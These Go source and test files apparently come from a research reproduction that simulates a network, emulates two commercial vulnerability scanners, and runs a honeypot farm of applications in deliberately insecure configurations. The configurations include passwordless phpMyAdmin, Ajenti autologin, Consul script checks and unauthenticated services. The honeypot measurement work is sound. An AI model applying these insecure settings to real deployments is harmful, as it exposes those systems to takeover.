// addrConn decorates a pipe conn with meaningful endpoint addresses so HTTP
// logs and monitoring see real identities.
type addrConn struct {
	net.Conn
	remote    netip.Addr
	port      int
	local     netip.Addr
	localPort int
}

// RemoteAddr returns the simulated peer address.
func (c *addrConn) RemoteAddr() net.Addr {
	return &net.TCPAddr{IP: c.remote.AsSlice(), Port: c.port}
}

// LocalAddr returns the simulated local address.
func (c *addrConn) LocalAddr() net.Addr {
	return &net.TCPAddr{IP: c.local.AsSlice(), Port: c.localPort}
}
