package simnet

import (
	"fmt"
	"net/netip"
	"testing"
)

// benchNetwork builds a network with 4096 hosts spread over 10.0.0.0/20.
// Every 16th host is wildcard-open and every 8th binds port 80, so probes
// exercise all three outcomes (open, wildcard, refused).
func benchNetwork(b *testing.B) (*Network, []netip.Addr) {
	b.Helper()
	n := New()
	addrs := make([]netip.Addr, 0, 4096)
	for i := 0; i < 4096; i++ {
		ip := netip.AddrFrom4([4]byte{10, 0, byte(i >> 8), byte(i)})
		h := NewHost(ip)
		if i%16 == 0 {
			h.SetWildcardOpen(true)
		} else if i%8 == 0 {
			h.Bind(80, wildcardHandler)
		}
		if err := n.AddHost(h); err != nil {
			b.Fatal(err)
		}
		addrs = append(addrs, ip)
	}
	return n, addrs
}

// BenchmarkSimnetProbeParallel is the Stage-I contention benchmark: many
// goroutines probing distinct hosts concurrently, the access pattern of the
// 64-worker portscan pool. With the sharded host table and copy-on-write
// host state a probe takes one shard read-lock and zero allocations, so
// throughput should scale with available CPUs instead of serializing on a
// network-wide lock.
func BenchmarkSimnetProbeParallel(b *testing.B) {
	for _, par := range []int{1, 2, 4, 8} {
		b.Run(fmt.Sprintf("goroutines=%d", par), func(b *testing.B) {
			n, addrs := benchNetwork(b)
			b.SetParallelism(par)
			b.ReportAllocs()
			b.ResetTimer()
			b.RunParallel(func(pb *testing.PB) {
				i := 0
				for pb.Next() {
					// Stride walks spread concurrent probers across shards.
					n.ProbePort(addrs[i&4095], 80)
					i += 257
				}
			})
		})
	}
}

// BenchmarkSimnetProbeWildcard isolates the wildcard-open fast path, which
// must not allocate: the handler is a package-level func, not a per-probe
// closure.
func BenchmarkSimnetProbeWildcard(b *testing.B) {
	n := New()
	ip := netip.MustParseAddr("10.0.0.1")
	h := NewHost(ip)
	h.SetWildcardOpen(true)
	if err := n.AddHost(h); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := n.ProbePort(ip, 443); err != nil {
			b.Fatal(err)
		}
	}
}
