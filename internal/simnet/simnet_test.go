package simnet

import (
	"context"
	"errors"
	"io"
	"net"
	"net/netip"
	"sync"
	"testing"
	"testing/quick"
	"time"
)

var (
	ipA = netip.MustParseAddr("10.0.0.1")
	ipB = netip.MustParseAddr("10.0.0.2")
)

func echoHandler(c net.Conn) {
	defer c.Close()
	io.Copy(c, c)
}

func TestProbePortSemantics(t *testing.T) {
	n := New()
	h := NewHost(ipA)
	h.Bind(80, echoHandler)
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}

	if err := n.ProbePort(ipA, 80); err != nil {
		t.Errorf("open port probed closed: %v", err)
	}
	if err := n.ProbePort(ipA, 81); !errors.Is(err, ErrConnRefused) {
		t.Errorf("closed port: got %v, want ErrConnRefused", err)
	}
	if err := n.ProbePort(ipB, 80); !errors.Is(err, ErrHostUnreachable) {
		t.Errorf("unknown host: got %v, want ErrHostUnreachable", err)
	}

	h.SetFirewalled(true)
	if err := n.ProbePort(ipA, 80); !errors.Is(err, ErrFiltered) {
		t.Errorf("firewalled host: got %v, want ErrFiltered", err)
	}
	h.SetFirewalled(false)

	h.SetOnline(false)
	if err := n.ProbePort(ipA, 80); !errors.Is(err, ErrHostUnreachable) {
		t.Errorf("offline host: got %v, want ErrHostUnreachable", err)
	}
}

func TestWildcardHostAcceptsEverything(t *testing.T) {
	n := New()
	h := NewHost(ipA)
	h.SetWildcardOpen(true)
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	for _, port := range []int{1, 80, 443, 65535} {
		if err := n.ProbePort(ipA, port); err != nil {
			t.Errorf("wildcard host refused port %d: %v", port, err)
		}
	}
	// A full dial succeeds but the peer hangs up immediately.
	conn, err := n.Dial(context.Background(), ipA, 12345)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	buf := make([]byte, 1)
	conn.SetReadDeadline(time.Now().Add(time.Second))
	if _, err := conn.Read(buf); err == nil {
		t.Error("wildcard conn should deliver no data")
	}
}

func TestDialDataFlow(t *testing.T) {
	n := New()
	h := NewHost(ipA)
	h.Bind(7, echoHandler)
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	conn, err := n.Dial(context.Background(), ipA, 7)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	msg := []byte("ping")
	if _, err := conn.Write(msg); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, len(msg))
	if _, err := io.ReadFull(conn, buf); err != nil {
		t.Fatal(err)
	}
	if string(buf) != "ping" {
		t.Fatalf("echo mismatch: %q", buf)
	}
}

func TestDialFromExposesSourceAddress(t *testing.T) {
	n := New()
	src := netip.MustParseAddr("198.51.100.99")
	var mu sync.Mutex
	var seen string
	h := NewHost(ipA)
	h.Bind(80, func(c net.Conn) {
		mu.Lock()
		seen = c.RemoteAddr().String()
		mu.Unlock()
		c.Close()
	})
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	conn, err := n.DialFrom(context.Background(), src, ipA, 80)
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	// The handler runs on its own goroutine; poll briefly.
	deadline := time.Now().Add(time.Second)
	for {
		mu.Lock()
		got := seen
		mu.Unlock()
		if got != "" {
			if want := "198.51.100.99:0"; got != want {
				t.Fatalf("server saw %q, want %q", got, want)
			}
			return
		}
		if time.Now().After(deadline) {
			t.Fatal("handler never observed the connection")
		}
		time.Sleep(time.Millisecond)
	}
}

func TestDialContextAddressParsing(t *testing.T) {
	n := New()
	h := NewHost(ipA)
	h.Bind(80, echoHandler)
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		network, addr string
		wantErr       bool
	}{
		{"tcp", "10.0.0.1:80", false},
		{"tcp4", "10.0.0.1:80", false},
		{"udp", "10.0.0.1:80", true},
		{"tcp", "10.0.0.1", true},
		{"tcp", "not-an-ip:80", true},
		{"tcp", "10.0.0.1:0", true},
		{"tcp", "10.0.0.1:99999", true},
	}
	for _, c := range cases {
		conn, err := n.DialContext(context.Background(), c.network, c.addr)
		if (err != nil) != c.wantErr {
			t.Errorf("DialContext(%s, %s): err=%v, wantErr=%v", c.network, c.addr, err, c.wantErr)
		}
		if conn != nil {
			conn.Close()
		}
	}
}

func TestDialCancelledContext(t *testing.T) {
	n := New()
	n.SetLatency(50 * time.Millisecond)
	h := NewHost(ipA)
	h.Bind(80, echoHandler)
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := n.Dial(ctx, ipA, 80); err == nil {
		t.Fatal("dial with cancelled context must fail")
	}
}

func TestDuplicateHostRejected(t *testing.T) {
	n := New()
	if err := n.AddHost(NewHost(ipA)); err != nil {
		t.Fatal(err)
	}
	if err := n.AddHost(NewHost(ipA)); err == nil {
		t.Fatal("duplicate address must be rejected")
	}
	n.RemoveHost(ipA)
	if err := n.AddHost(NewHost(ipA)); err != nil {
		t.Fatalf("re-adding after removal failed: %v", err)
	}
}

func TestHostsIteration(t *testing.T) {
	n := New()
	for i := 1; i <= 5; i++ {
		if err := n.AddHost(NewHost(netip.AddrFrom4([4]byte{10, 0, 0, byte(i)}))); err != nil {
			t.Fatal(err)
		}
	}
	if n.NumHosts() != 5 {
		t.Fatalf("NumHosts = %d, want 5", n.NumHosts())
	}
	count := 0
	n.Hosts(func(h *Host) bool {
		count++
		return count < 3 // early stop
	})
	if count != 3 {
		t.Fatalf("early-stop iteration visited %d hosts, want 3", count)
	}
}

func TestBindUnbindPorts(t *testing.T) {
	h := NewHost(ipA)
	h.Bind(80, echoHandler)
	h.Bind(443, echoHandler)
	if got := len(h.Ports()); got != 2 {
		t.Fatalf("Ports() = %d entries, want 2", got)
	}
	h.Unbind(80)
	if got := h.Ports(); len(got) != 1 || got[0] != 443 {
		t.Fatalf("Ports() after Unbind = %v, want [443]", got)
	}
	// Rebinding replaces the handler without error.
	h.Bind(443, func(c net.Conn) { c.Close() })
}

// TestProbeDialAgreementProperty: for arbitrary port states, ProbePort and
// Dial must agree on reachability.
func TestProbeDialAgreementProperty(t *testing.T) {
	f := func(portRaw uint16, bound, online, firewalled bool) bool {
		port := int(portRaw)%65535 + 1
		n := New()
		h := NewHost(ipA)
		if bound {
			h.Bind(port, echoHandler)
		}
		h.SetOnline(online)
		h.SetFirewalled(firewalled)
		if err := n.AddHost(h); err != nil {
			return false
		}
		probeErr := n.ProbePort(ipA, port)
		conn, dialErr := n.Dial(context.Background(), ipA, port)
		if conn != nil {
			conn.Close()
		}
		return (probeErr == nil) == (dialErr == nil)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// countingResolver materializes an echo host for one address and counts
// how often it is consulted.
type countingResolver struct {
	mu    sync.Mutex
	calls int
	live  netip.Addr
	host  *Host
}

func (r *countingResolver) Resolve(ip netip.Addr) *Host {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.calls++
	if ip != r.live {
		return nil
	}
	if r.host == nil {
		r.host = NewHost(ip)
		r.host.Bind(80, echoHandler)
	}
	return r.host
}

func TestResolverMaterializesOnMiss(t *testing.T) {
	n := New()
	live := netip.MustParseAddr("10.9.0.7")
	empty := netip.MustParseAddr("10.9.0.8")
	// Without a resolver the address is unreachable.
	if err := n.ProbePort(live, 80); !errors.Is(err, ErrHostUnreachable) {
		t.Fatalf("probe before resolver: %v", err)
	}
	r := &countingResolver{live: live}
	n.SetResolver(r)
	if err := n.ProbePort(live, 80); err != nil {
		t.Fatalf("probe open port on resolved host: %v", err)
	}
	if err := n.ProbePort(live, 81); !errors.Is(err, ErrConnRefused) {
		t.Fatalf("probe closed port on resolved host: %v", err)
	}
	if err := n.ProbePort(empty, 80); !errors.Is(err, ErrHostUnreachable) {
		t.Fatalf("probe empty address: %v", err)
	}
	// Dial flows data through the materialized handler.
	conn, err := n.Dial(context.Background(), live, 80)
	if err != nil {
		t.Fatalf("dial resolved host: %v", err)
	}
	if _, err := conn.Write([]byte("hi")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 2)
	if _, err := io.ReadFull(conn, buf); err != nil || string(buf) != "hi" {
		t.Fatalf("echo through resolved host: %q, %v", buf, err)
	}
	conn.Close()
	// Host() sees the resolved host too.
	if h, ok := n.Host(live); !ok || h != r.host {
		t.Fatal("Host() did not return the resolved host")
	}
	// Resolved hosts are not registered: NumHosts stays zero.
	if n.NumHosts() != 0 {
		t.Fatalf("resolved host leaked into the registry: NumHosts=%d", n.NumHosts())
	}
	// Clearing the resolver restores the empty-world behavior.
	n.SetResolver(nil)
	if err := n.ProbePort(live, 80); !errors.Is(err, ErrHostUnreachable) {
		t.Fatalf("probe after clearing resolver: %v", err)
	}
}

func TestResolverNotConsultedForRegisteredHosts(t *testing.T) {
	n := New()
	h := NewHost(ipA)
	h.Bind(80, echoHandler)
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	r := &countingResolver{live: ipB}
	n.SetResolver(r)
	if err := n.ProbePort(ipA, 80); err != nil {
		t.Fatal(err)
	}
	conn, err := n.Dial(context.Background(), ipA, 80)
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	if _, ok := n.Host(ipA); !ok {
		t.Fatal("registered host lost")
	}
	r.mu.Lock()
	calls := r.calls
	r.mu.Unlock()
	if calls != 0 {
		t.Fatalf("resolver consulted %d times for a registered host", calls)
	}
}

// faultEveryProbe injects a probe fault unconditionally.
type faultEveryProbe struct{}

func (faultEveryProbe) ProbeFault(ip netip.Addr, port int) error { return ErrFiltered }
func (faultEveryProbe) DialFault(ip netip.Addr, port int) Fault  { return Fault{} }

func TestResolverComposesWithFaultInjection(t *testing.T) {
	n := New()
	live := netip.MustParseAddr("10.9.0.7")
	n.SetResolver(&countingResolver{live: live})
	n.SetFaults(faultEveryProbe{})
	// The fault overlays the resolved-but-healthy host, same as for a
	// registered one.
	if err := n.ProbePort(live, 80); !errors.Is(err, ErrFiltered) {
		t.Fatalf("fault not applied to resolved host: %v", err)
	}
}
