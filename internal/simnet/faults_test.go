package simnet

import (
	"context"
	"errors"
	"io"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"
)

// stubInjector is a scriptable FaultInjector for hook tests.
type stubInjector struct {
	probeErr error
	fault    Fault
}

func (s *stubInjector) ProbeFault(netip.Addr, int) error { return s.probeErr }
func (s *stubInjector) DialFault(netip.Addr, int) Fault  { return s.fault }

func faultNet(t *testing.T, handler ConnHandler) *Network {
	t.Helper()
	n := New()
	h := NewHost(ipA)
	h.Bind(80, handler)
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	return n
}

func TestProbeFaultOverlaysHealthyPort(t *testing.T) {
	n := faultNet(t, echoHandler)
	n.SetFaults(&stubInjector{probeErr: ErrHostUnreachable})
	if err := n.ProbePort(ipA, 80); !errors.Is(err, ErrHostUnreachable) {
		t.Fatalf("probe fault: got %v, want ErrHostUnreachable", err)
	}
	// The injector is only consulted for ports that would have succeeded:
	// a closed port keeps its genuine error.
	if err := n.ProbePort(ipA, 81); !errors.Is(err, ErrConnRefused) {
		t.Fatalf("closed port: got %v, want the genuine ErrConnRefused", err)
	}
	n.SetFaults(nil)
	if err := n.ProbePort(ipA, 80); err != nil {
		t.Fatalf("after removing the injector: %v", err)
	}
}

func TestDialFaultError(t *testing.T) {
	n := faultNet(t, echoHandler)
	n.SetFaults(&stubInjector{fault: Fault{Err: ErrConnRefused}})
	if _, err := n.Dial(context.Background(), ipA, 80); !errors.Is(err, ErrConnRefused) {
		t.Fatalf("dial fault: got %v, want ErrConnRefused", err)
	}
}

func TestDialFaultStatusBlip(t *testing.T) {
	n := faultNet(t, func(c net.Conn) {
		defer c.Close()
		t.Error("a 5xx blip must not reach the bound handler")
	})
	n.SetFaults(&stubInjector{fault: Fault{Status: 503}})
	conn, err := n.Dial(context.Background(), ipA, 80)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: x\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	reply, err := io.ReadAll(conn)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(string(reply), "HTTP/1.1 503 ") {
		t.Fatalf("blip reply %q, want an HTTP/1.1 503 status line", reply)
	}
}

func TestDialFaultTruncatesResponse(t *testing.T) {
	payload := strings.Repeat("x", 1024)
	n := faultNet(t, func(c net.Conn) {
		defer c.Close()
		io.WriteString(c, payload)
	})
	n.SetFaults(&stubInjector{fault: Fault{Truncate: 10}})
	conn, err := n.Dial(context.Background(), ipA, 80)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	got, _ := io.ReadAll(conn)
	if len(got) > 10 {
		t.Fatalf("read %d bytes through a Truncate=10 fault", len(got))
	}
}

func TestDialFaultLatencyWaitsOnClock(t *testing.T) {
	n := faultNet(t, echoHandler)
	waited := make(chan time.Duration, 1)
	n.SetClock(recordingSleeper{waited})
	n.SetFaults(&stubInjector{fault: Fault{Latency: 25 * time.Millisecond}})
	conn, err := n.Dial(context.Background(), ipA, 80)
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	select {
	case d := <-waited:
		if d != 25*time.Millisecond {
			t.Fatalf("dial waited %v, want the injected 25ms", d)
		}
	default:
		t.Fatal("latency fault did not wait on the network clock")
	}
}

// recordingSleeper completes waits instantly while recording the duration.
type recordingSleeper struct{ waits chan time.Duration }

func (recordingSleeper) Now() time.Time { return time.Time{} }
func (r recordingSleeper) After(d time.Duration) <-chan time.Time {
	select {
	case r.waits <- d:
	default:
	}
	ch := make(chan time.Time, 1)
	ch <- time.Time{}
	return ch
}
