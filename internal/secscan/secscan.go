// Package secscan emulates the two commercial, industry-leading security
// scanners of Section 5 (RQ7). Their identities are withheld by the paper;
// what matters for the study is their *capability matrix*: which of the 18
// MAVs each product can detect at all, and whether it reports them as a
// vulnerability or merely as an informational finding.
//
// The emulated scanners perform real checks over the network (reusing the
// corresponding detection logic) but only for the applications they have
// checks for — a scanner without a Jupyter Lab plugin cannot flag a
// Jupyter Lab honeypot no matter how vulnerable it is.
package secscan

import (
	"context"
	"net/http"
	"time"

	"mavscan/internal/mav"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// Severity is how a scanner reports a finding.
type Severity string

// Report severities.
const (
	// SeverityVulnerability is a proper vulnerability report.
	SeverityVulnerability Severity = "vulnerability"
	// SeverityInformational flags the product's presence without raising
	// a vulnerability.
	SeverityInformational Severity = "informational"
)

// Finding is one scanner report for one target.
type Finding struct {
	App      mav.App
	Severity Severity
}

// Scanner is one emulated commercial product.
type Scanner struct {
	Name string
	// ScanDuration is how long a full scan takes; the paper notes Scanner
	// 2 needed several hours, long enough for honeypots to be compromised
	// mid-scan.
	ScanDuration time.Duration

	caps   map[mav.App]Severity
	engine *tsunami.Engine
}

// capabilities returns the applications the scanner has checks for.
func (s *Scanner) Capabilities() map[mav.App]Severity {
	out := make(map[mav.App]Severity, len(s.caps))
	for k, v := range s.caps {
		out[k] = v
	}
	return out
}

// newScanner wires a capability matrix to a detection engine restricted to
// exactly those checks.
func newScanner(name string, caps map[mav.App]Severity, dur time.Duration, client *http.Client) *Scanner {
	registry := tsunami.NewRegistry()
	full := plugins.NewRegistry()
	for app := range caps {
		for _, det := range full.DetectorsFor(app) {
			registry.Register(det)
		}
	}
	return &Scanner{
		Name:         name,
		ScanDuration: dur,
		caps:         caps,
		engine:       tsunami.NewEngine(registry, client),
	}
}

// Scanner1 detects five of the eighteen MAVs: Consul, Docker, Jupyter
// Notebook, WordPress and Hadoop — all but one of which were also actively
// attacked in the wild.
func Scanner1(client *http.Client) *Scanner {
	return newScanner("Scanner 1", map[mav.App]Severity{
		mav.Consul:          SeverityVulnerability,
		mav.Docker:          SeverityVulnerability,
		mav.JupyterNotebook: SeverityVulnerability,
		mav.WordPress:       SeverityVulnerability,
		mav.Hadoop:          SeverityVulnerability,
	}, 45*time.Minute, client)
}

// Scanner2 detects three MAVs (Consul, Docker, Jenkins) and additionally
// flags Joomla, phpMyAdmin, Kubernetes and Hadoop as informational
// findings without raising a vulnerability.
func Scanner2(client *http.Client) *Scanner {
	return newScanner("Scanner 2", map[mav.App]Severity{
		mav.Consul:     SeverityVulnerability,
		mav.Docker:     SeverityVulnerability,
		mav.Jenkins:    SeverityVulnerability,
		mav.Joomla:     SeverityInformational,
		mav.PhpMyAdmin: SeverityInformational,
		mav.Kubernetes: SeverityInformational,
		mav.Hadoop:     SeverityInformational,
	}, 5*time.Hour, client)
}

// Scan runs the scanner against the targets and returns its findings. A
// finding is produced when the scanner has a check for the target's
// application and the check fires (for informational capabilities, mere
// identification of the product suffices).
func (s *Scanner) Scan(ctx context.Context, targets []tsunami.Target) []Finding {
	var out []Finding
	for _, t := range targets {
		if ctx.Err() != nil {
			break // canceled: stop between targets
		}
		sev, ok := s.caps[t.App]
		if !ok {
			continue
		}
		switch sev {
		case SeverityVulnerability:
			if len(s.engine.Scan(ctx, t)) > 0 {
				out = append(out, Finding{App: t.App, Severity: sev})
			}
		case SeverityInformational:
			// Product identification only: the scanner sees the
			// application but does not verify the MAV.
			out = append(out, Finding{App: t.App, Severity: sev})
		}
	}
	return out
}

// VulnerabilitiesDetected counts the distinct applications reported at
// vulnerability severity.
func VulnerabilitiesDetected(findings []Finding) int {
	seen := map[mav.App]bool{}
	for _, f := range findings {
		if f.Severity == SeverityVulnerability {
			seen[f.App] = true
		}
	}
	return len(seen)
}
