package secscan

import (
	"context"
	"net/netip"
	"testing"

	"mavscan/internal/apps"
	"mavscan/internal/eslite"
	"mavscan/internal/honeypot"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/tsunami"

	"time"
)

func deployFarm(t *testing.T) (*simnet.Network, []tsunami.Target) {
	t.Helper()
	net := simnet.New()
	sim := simtime.NewSim(time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC))
	farm := honeypot.NewFarm(net, sim, &eslite.Store{})
	if err := farm.DeployAll(netip.MustParseAddr("10.40.0.10")); err != nil {
		t.Fatal(err)
	}
	var targets []tsunami.Target
	for _, pot := range farm.Honeypots() {
		targets = append(targets, tsunami.Target{IP: pot.IP, Port: pot.Port, Scheme: "http", App: pot.App})
	}
	return net, targets
}

func TestScannerCapabilityMatrices(t *testing.T) {
	s1 := Scanner1(nil)
	s2 := Scanner2(nil)
	if got := len(s1.Capabilities()); got != 5 {
		t.Errorf("Scanner 1 has %d capabilities, want 5", got)
	}
	caps2 := s2.Capabilities()
	vuln2, info2 := 0, 0
	for _, sev := range caps2 {
		if sev == SeverityVulnerability {
			vuln2++
		} else {
			info2++
		}
	}
	if vuln2 != 3 || info2 != 4 {
		t.Errorf("Scanner 2 capabilities: %d vuln, %d informational; want 3 and 4", vuln2, info2)
	}
	// The overlap at vulnerability severity is Docker and Consul only.
	overlap := 0
	for app, sev := range s1.Capabilities() {
		if sev == SeverityVulnerability && caps2[app] == SeverityVulnerability {
			overlap++
		}
	}
	if overlap != 2 {
		t.Errorf("scanner overlap = %d, want 2 (Docker, Consul)", overlap)
	}
	if s2.ScanDuration <= s1.ScanDuration {
		t.Error("Scanner 2 must be the slow one (the paper notes its multi-hour scans)")
	}
}

func TestScannersAgainstFullFarm(t *testing.T) {
	net, targets := deployFarm(t)
	client := httpsim.NewClient(net, httpsim.ClientOptions{DisableKeepAlives: true})
	ctx := context.Background()

	f1 := Scanner1(client).Scan(ctx, targets)
	if got := VulnerabilitiesDetected(f1); got != 5 {
		t.Errorf("Scanner 1 detected %d, want 5", got)
	}
	f2 := Scanner2(client).Scan(ctx, targets)
	if got := VulnerabilitiesDetected(f2); got != 3 {
		t.Errorf("Scanner 2 detected %d, want 3", got)
	}
	// Scanner 2's informational findings are exactly Joomla, phpMyAdmin,
	// Kubernetes and Hadoop.
	info := map[mav.App]bool{}
	for _, f := range f2 {
		if f.Severity == SeverityInformational {
			info[f.App] = true
		}
	}
	for _, app := range []mav.App{mav.Joomla, mav.PhpMyAdmin, mav.Kubernetes, mav.Hadoop} {
		if !info[app] {
			t.Errorf("Scanner 2 missing informational finding for %s", app)
		}
	}
	if len(info) != 4 {
		t.Errorf("Scanner 2 informational findings: %v", info)
	}
}

func TestScannerDoesNotFlagSecuredTargets(t *testing.T) {
	// A secured Docker daemon must not be flagged even though the scanner
	// has a Docker check — the checks are real, not capability lookups.
	net := simnet.New()
	ip := netip.MustParseAddr("10.40.1.1")
	inst, target := deploySecureDocker(t, net, ip)
	_ = inst
	client := httpsim.NewClient(net, httpsim.ClientOptions{DisableKeepAlives: true})
	findings := Scanner1(client).Scan(context.Background(), []tsunami.Target{target})
	if len(findings) != 0 {
		t.Fatalf("secured Docker flagged: %v", findings)
	}
}

func deploySecureDocker(t *testing.T, net *simnet.Network, ip netip.Addr) (interface{}, tsunami.Target) {
	t.Helper()
	inst, err := newSecureDocker()
	if err != nil {
		t.Fatal(err)
	}
	h := simnet.NewHost(ip)
	h.Bind(2375, httpsim.ConnHandler(inst.Handler()))
	if err := net.AddHost(h); err != nil {
		t.Fatal(err)
	}
	return inst, tsunami.Target{IP: ip, Port: 2375, Scheme: "http", App: mav.Docker}
}

func newSecureDocker() (*apps.Instance, error) {
	return apps.New(apps.Config{App: mav.Docker, AuthRequired: true})
}
