// Package honeypot deploys the 18 vulnerable applications as
// high-interaction honeypots (Section 4.1): each application runs in a
// deliberately vulnerable configuration on its own host, instrumented with
// Packetbeat-style HTTP capture and Auditbeat-style exec auditing shipping
// to a central append-only store. A snapshot taken after setup lets the
// farm restore a compromised honeypot to its initial state — essential for
// trust-on-first-use vulnerabilities that are exploitable only once — and
// an out-of-band resource monitor shuts down honeypots whose workloads
// start abusing the machine.
package honeypot

import (
	"fmt"
	"net/netip"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/beats"
	"mavscan/internal/eslite"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// Honeypot is one deployed vulnerable application.
type Honeypot struct {
	App      mav.App
	IP       netip.Addr
	Port     int
	Instance *apps.Instance

	host     *simnet.Host
	snapshot apps.Snapshot
	restores int
	// cpuLoad models the host's resource utilization in [0, 1]. Baseline
	// workloads idle near zero; an installed cryptominer pins the CPU,
	// which is what the paper's out-of-band threshold monitor detects.
	cpuLoad float64
}

// Restores returns how many times the honeypot was reverted to its
// snapshot.
func (h *Honeypot) Restores() int { return h.restores }

// CPULoad returns the modeled resource utilization.
func (h *Honeypot) CPULoad() float64 { return h.cpuLoad }

// Farm manages the honeypot deployment.
type Farm struct {
	Net   *simnet.Network
	Clock *simtime.Sim
	Store *eslite.Store

	pots []*Honeypot
	byIP map[netip.Addr]*Honeypot

	// DetectionDelay is how long the out-of-band monitor takes to notice
	// resource abuse or unavailability before restoring (default 30 min).
	DetectionDelay time.Duration
	// CPUThreshold is the utilization above which the resource monitor
	// considers the honeypot abused (default 0.8). The thresholds were
	// derived from usage patterns observed before exposure, as in the
	// paper.
	CPUThreshold float64

	// Telemetry handles; nil handles no-op.
	telDeployed *telemetry.Gauge
	telRestores *telemetry.Counter
	telTicks    *telemetry.Counter
}

// Instrument registers the farm's monitoring metrics with reg (nil = off).
func (f *Farm) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	f.telDeployed = reg.Gauge("mavscan_honeypot_deployed")
	f.telRestores = reg.Counter("mavscan_honeypot_restores_total")
	f.telTicks = reg.Counter("mavscan_honeypot_ticks_total")
	f.telDeployed.Set(int64(len(f.pots)))
	f.Store.Instrument(reg)
}

// NewFarm builds an empty farm on the given network and clock.
func NewFarm(net *simnet.Network, clock *simtime.Sim, store *eslite.Store) *Farm {
	return &Farm{
		Net:            net,
		Clock:          clock,
		Store:          store,
		byIP:           make(map[netip.Addr]*Honeypot),
		DetectionDelay: 30 * time.Minute,
		CPUThreshold:   0.8,
	}
}

// Honeypots returns the deployed honeypots in deployment order.
func (f *Farm) Honeypots() []*Honeypot { return f.pots }

// ByIP returns the honeypot at ip.
func (f *Farm) ByIP(ip netip.Addr) (*Honeypot, bool) {
	h, ok := f.byIP[ip]
	return h, ok
}

// vulnerableConfig returns the emulator configuration that realizes the
// MAV for app, the way the paper configured each honeypot (insecure
// defaults kept, or insecure settings explicitly enabled).
func vulnerableConfig(app mav.App) apps.Config {
	cfg := apps.Config{App: app, Options: map[string]bool{}}
	switch app {
	case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
		cfg.Installed = false
		cfg.AuthRequired = true
		if app == mav.Joomla {
			cfg.Version = "3.6.0" // pre-countermeasure release
		}
	case mav.Consul:
		cfg.Options["enableScriptChecks"] = true
	case mav.Ajenti:
		cfg.Options["autologin"] = true
	case mav.PhpMyAdmin:
		cfg.Options["allowNoPassword"] = true
	case mav.Adminer:
		cfg.Options["emptyDBPassword"] = true
		cfg.Version = "4.2.5"
	default:
		cfg.AuthRequired = false
	}
	return cfg
}

// Deploy sets up one honeypot for app at ip. The host is firewalled during
// setup (no interaction possible), snapshotted, and only then exposed.
func (f *Farm) Deploy(app mav.App, ip netip.Addr) (*Honeypot, error) {
	info, err := mav.Lookup(app)
	if err != nil {
		return nil, err
	}
	if !info.InScope() {
		return nil, fmt.Errorf("honeypot: %s has no MAV to expose", app)
	}
	port := info.Ports[0]

	pot := &Honeypot{App: app, IP: ip, Port: port}
	audit := beats.NewAuditbeat(f.Store, ip)
	// The monitor sink chains the audit shipper with the out-of-band
	// resource/abuse reaction.
	sink := apps.ExecFunc(func(t time.Time, src netip.Addr, a mav.App, via, command string) {
		audit.RecordExec(t, src, a, via, command)
		f.react(pot, command)
	})

	cfg := vulnerableConfig(app)
	cfg.Clock = f.Clock
	cfg.Exec = sink
	inst, err := apps.New(cfg)
	if err != nil {
		return nil, err
	}
	if !inst.Vulnerable() {
		return nil, fmt.Errorf("honeypot: %s configuration is not vulnerable", app)
	}
	pot.Instance = inst

	host := simnet.NewHost(ip)
	host.SetFirewalled(true) // block interactions during setup
	pb := beats.NewPacketbeat(f.Store, f.Clock, ip, app)
	host.Bind(port, httpsim.ConnHandler(pb.Wrap(inst.Handler())))
	if err := f.Net.AddHost(host); err != nil {
		return nil, err
	}
	pot.host = host
	pot.snapshot = inst.Snapshot() // the post-setup snapshot
	host.SetFirewalled(false)      // go live

	f.pots = append(f.pots, pot)
	f.byIP[ip] = pot
	f.telDeployed.Set(int64(len(f.pots)))
	return pot, nil
}

// DeployAll deploys all 18 in-scope applications on consecutive addresses
// starting at base.
func (f *Farm) DeployAll(base netip.Addr) error {
	ip := base
	for _, info := range mav.InScopeApps() {
		if _, err := f.Deploy(info.App, ip); err != nil {
			return fmt.Errorf("deploying %s: %w", info.App, err)
		}
		ip = ip.Next()
	}
	return nil
}

// react models the direct system effects of one executed command: a
// shutdown takes the host offline immediately; a cryptominer pins the CPU.
// The *reaction* to both comes from the out-of-band monitor: availability
// is re-checked after the detection delay, and the pinned CPU is caught by
// the next resource-monitor sample (see Tick), exactly like the paper's
// threshold monitor running in the cloud provider's control plane.
